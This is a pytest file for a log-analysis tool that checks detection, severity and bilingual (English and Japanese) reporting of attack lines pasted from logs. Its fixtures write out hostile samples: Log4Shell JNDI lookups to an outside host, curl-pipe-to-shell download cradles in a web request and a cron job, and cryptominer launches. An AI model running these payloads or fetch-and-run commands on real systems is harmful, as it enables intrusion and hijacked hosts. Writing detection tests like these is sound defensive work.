"""``kanaria explain`` of one line, as people paste it: what it is called, how grave it is, the same in both languages;
and what only resembles an attack is called nothing."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from typing import Any, get_args

import pytest

from kanaria.app.output import render
from kanaria.app.run.engine import Engine
from kanaria.app.run.pipeline import analyse
from kanaria.app.run.setup import Setup, prepare
from kanaria.core.types import Analysis, Language
from kanaria.sources import open_inputs

LANGUAGES: tuple[Language, ...] = get_args(Language)
SENTENCE = re.compile(r"\b[a-z]{2,}(?: [a-z]{2,}){5,}")


def web(request: str, status: int = 404, agent: str = "Mozilla/5.0", ip: str = "203.0.113.7") -> str:
    quoted = request.replace("\\", "\\\\").replace('"', '\\"')
    return f'{ip} - - [10/Jan/2026:09:00:00 +0000] "{quoted}" {status} 153 "-" "{agent}"'


# what it is: (line, rules that must be among those found, severity)
ATTACKS: dict[str, tuple[str, set[str], str]] = {
    "Stratum to a web port, refused": (
        web('{"id":1,"method":"mining.subscribe","params":[]}', 400), {"stratum_message_in_web_request"}, "informational",
    ),
    "a Monero login to a web port, refused": (
        web('{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"x","pass":"x","agent":"XMRig/6.21.0"}}', 400),
        {"stratum_message_in_web_request"}, "informational",
    ),
    "Log4Shell": (web("GET /?x=${jndi:ldap://198.51.100.66:1389/a} HTTP/1.1"), {"web_log4shell"}, "low"),
    "Log4Shell in a browser's name": (web("GET / HTTP/1.1", 200, "${jndi:ldap://198.51.100.66/a}"), {"web_log4shell"}, "medium"),
    "a cradle, refused": (
        web("GET /cgi-bin/x?c=curl%20-s%20http://198.51.100.66/x.sh|sh HTTP/1.1"), {"web_download_cradle"}, "low",
    ),
    "a miner's own line": (
        "[2026-01-10 09:00:00.123]  cpu      accepted (12/0) diff 100001 (43 ms)", {"miner_own_log"}, "critical",
    ),
    "a job of an intruder": (
        "Jan 10 09:00:01 web01 CRON[71]: (www-data) CMD (curl -s http://203.0.113.66/x.sh | bash)", {"host_command_delivers"}, "high",
    ),
    "a job that mines": (
        "Jan 10 09:00:01 web01 CRON[71]: (www-data) CMD (/tmp/.x -o pool.example.org:3333 -u account.rig -k --donate-level 1)",
        {"miner_program_started"}, "high",
    ),
}  # fmt: skip
HONEST = {
    "a page": web("GET / HTTP/1.1", 200),
    "a search for miners": web("GET /?q=how+does+mining.subscribe+work HTTP/1.1", 200),
    "an article about Log4Shell": web("GET /blog/log4shell-jndi-ldap-explained HTTP/1.1", 200),
    "an API login": web("POST /api/login HTTP/1.1", 200),
    "a downloader": web("GET /install.sh HTTP/1.1", 200, "curl/8.5.0"),
    "a pasted installer": web(
        "GET /share?text=curl%20-sSL%20https%3A%2F%2Finstall.example.org%20%7C%20bash HTTP/1.1", 200
    ),
    "a monitor": web("HEAD /health HTTP/1.1", 200, "UptimeRobot/2.0"),
    "a page's own cron": "Jan 10 09:00:01 web01 CRON[71]: (www-data) CMD (wget -q --spider https://www.example.com/cron.php)",
    "log rotation": "Jan 10 09:00:01 web01 CRON[71]: (root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)",
    "a logon": "Jan 10 09:00:01 web01 sshd[71]: Accepted publickey for deploy from 192.0.2.7 port 41234 ssh2: ED25519 SHA256:abc",
    "a question": "Jan 10 09:00:00 dnsmasq[71]: query[A] www.example.org from 192.168.1.20",
    "a game": "[09:00:00] [Server thread/INFO]: <tanaka> I am mining at 120:12, diamonds!",
}


@pytest.fixture(scope="module")
def setup() -> Setup:
    return prepare()


@pytest.fixture(scope="module")
def judged(setup: Setup, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """Each line is read and judged once."""
    known: dict[str, Analysis] = {}

    def judge(line: str) -> Analysis:
        if line not in known:
            path = tmp_path_factory.mktemp("line") / "pasted.log"
            path.write_text(f"{line}\n", "utf-8")
            with Engine(setup) as engine:
                known[line] = analyse(open_inputs([str(path)]), engine)
        return known[line]

    yield judge


@pytest.mark.parametrize("what", ATTACKS)
def test_what_it_is_and_how_grave(judged: Any, what: str) -> None:
    line, rules, severity = ATTACKS[what]
    (incident,) = judged(line).incidents
    assert rules <= {one.rule for one in incident.findings}
    assert incident.severity == severity


@pytest.mark.parametrize("what", HONEST)
def test_what_only_resembles_it_is_nothing(judged: Any, what: str) -> None:
    assert judged(HONEST[what]).incidents == ()


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("what", ATTACKS)
def test_the_line_is_quoted_as_its_evidence(judged: Any, setup: Setup, what: str, language: Language) -> None:
    line, _rules, _severity = ATTACKS[what]
    full = render(judged(line), setup.facts, "text", language, None, full=True)
    assert [quoted for quoted in full.splitlines() if quoted.strip().startswith(">")], full


@pytest.mark.parametrize("style", ["report", "story"])
@pytest.mark.parametrize("what", ATTACKS)
def test_japanese_readers_get_no_english_sentence(judged: Any, setup: Setup, what: str, style: str) -> None:
    line, _rules, _severity = ATTACKS[what]
    shown = render(judged(line), setup.facts, "text", "ja", None, style=style, full=True)
    assert [found for found in SENTENCE.findall(shown) if found not in line] == []


@pytest.mark.parametrize("what", ATTACKS)
def test_both_languages_rest_on_the_same_evidence(judged: Any, setup: Setup, what: str) -> None:
    (incident,) = json.loads(render(judged(ATTACKS[what][0]), setup.facts, "json", "en", None))["incidents"]
    english, japanese = incident["report"]["en"], incident["report"]["ja"]
    assert english["verdict"]["evidence"] == japanese["verdict"]["evidence"]
    assert [len(section["claims"]) for section in english["sections"]] == [
        len(section["claims"]) for section in japanese["sections"]
    ]
    assert incident["recommendations"]
    for one in incident["recommendations"]:
        assert one["text"]["en"] and one["text"]["ja"] and one["text"]["en"] != one["text"]["ja"]


@pytest.mark.parametrize("what", ["Log4Shell", "a cradle, refused", "Stratum to a web port, refused"])
@pytest.mark.parametrize("behind", [" ", "\t", " -", " 0.003", ' "-" rt=0.01'])
def test_what_stands_behind_a_line_changes_nothing(judged: Any, what: str, behind: str) -> None:
    line, rules, severity = ATTACKS[what]
    (incident,) = judged(line + behind).incidents
    assert rules <= {one.rule for one in incident.findings}
    assert incident.severity == severity
